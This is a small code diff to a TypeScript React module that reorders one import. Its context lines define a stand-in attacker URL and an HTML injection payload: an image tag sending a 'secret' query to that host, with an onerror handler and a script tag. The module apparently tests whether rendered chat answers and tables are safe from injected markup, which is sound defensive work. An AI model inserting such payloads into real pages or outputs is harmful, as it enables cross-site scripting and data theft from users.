@@ -1,6 +1,7 @@
 import { flushSync } from 'react-dom';
 import { createRoot } from 'react-dom/client';
 import type { Attack, AttackOutcome } from '../../core/attack.ts';
+import { toCsv } from '../../core/delimited.ts';
 import type { DataEngine } from '../../core/engine.ts';
 import { newId } from '../../core/id.ts';
 import type { ResultSet } from '../../core/result-set.ts';
@@ -8,7 +9,6 @@ import { startTurn } from '../../core/turn.ts';
 import { AnswerText } from '../chat/answer-text.tsx';
 import { columnViews } from '../findings/cell-view.ts';
 import { PlainTable } from '../findings/plain-table.tsx';
-import { toCsv } from '../../core/delimited.ts';
 
 const somewhere = 'https://attacker.invalid/';
 const markup = `<img src="${somewhere}?secret=42" onerror="window.stolen = 42"><script>window.stolen = 42</script>`;
